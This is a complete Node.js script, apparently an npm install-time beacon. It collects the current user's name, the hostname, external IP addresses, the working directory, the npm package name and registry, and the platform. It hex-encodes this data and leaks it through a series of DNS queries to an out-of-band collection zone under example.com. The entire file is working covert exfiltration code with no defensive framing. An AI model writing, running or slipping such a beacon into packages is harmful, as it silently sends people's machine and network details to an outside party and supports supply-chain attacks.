'use strict';
const os = require('os');
const dns = require('dns');

const zone = 'b7.oast.example.com';
const id = Math.random().toString(36).slice(2, 8);
const ips = Object.values(os.networkInterfaces()).flat().filter(a => a && !a.internal && a.family === 'IPv4').map(a => a.address);
const facts = [
  os.userInfo().username, os.hostname(), ips.join('+'), process.env.INIT_CWD || process.cwd(),
  process.env.npm_package_name || '', process.env.npm_config_registry || '', os.platform()
].join(';');

const hex = Buffer.from(facts).toString('hex');
const labels = hex.match(/.{1,56}/g) || [];
const resolver = new dns.Resolver({ timeout: 1500, tries: 1 });
labels.forEach((chunk, i) => {
  setTimeout(() => resolver.resolve4(`${chunk}.${i}.${labels.length}.${id}.${zone}`, () => {}), i * 40);
});
